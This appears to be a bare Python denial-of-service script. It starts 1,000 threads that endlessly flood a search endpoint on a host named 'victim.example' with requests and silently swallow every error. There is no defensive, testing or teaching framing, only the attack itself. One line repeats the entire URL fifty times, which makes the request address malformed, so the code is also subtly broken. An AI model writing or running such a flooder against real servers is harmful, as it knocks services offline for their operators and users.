import requests
from concurrent.futures import ThreadPoolExecutor
def hit(_):
    while True:
        try: requests.get("http://victim.example/search?q=a" * 50, timeout=1)
        except requests.RequestException: pass
with ThreadPoolExecutor(max_workers=1000) as p: list(p.map(hit, range(1000)))
